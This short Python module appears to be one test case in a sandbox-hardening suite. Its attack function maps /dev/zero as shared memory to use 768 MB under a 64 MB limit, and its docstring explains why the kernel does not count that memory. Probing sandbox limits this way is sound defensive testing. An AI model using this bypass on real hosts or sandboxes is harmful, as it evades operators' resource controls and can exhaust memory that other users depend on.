"""Eat shared memory through /dev/zero.

Attacks: the host's memory.
How: map /dev/zero shared and read it: the kernel makes pages of shared memory that count neither as data nor as
private.
Source: mem(4), mmap(2); found by reading the list of devices that a worker may open.
Breach: more than ten times the limit can be touched.
"""

import mmap
import os

import numpy as np

GROUP, LIMITS = "resources", {"memory_mb": 64}


def attack(outside):
    held = []
    for _ in range(3):
        try:
            descriptor = os.open("/dev/zero", os.O_RDONLY)
            mapping = mmap.mmap(descriptor, 256 << 20, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
        except OSError:
            return None
        view = np.frombuffer(mapping, np.uint8)
        int(view[::4096].sum(dtype=np.int64))
        held.append((mapping, view))
    return "768 MB of shared memory were had under a limit of 64"
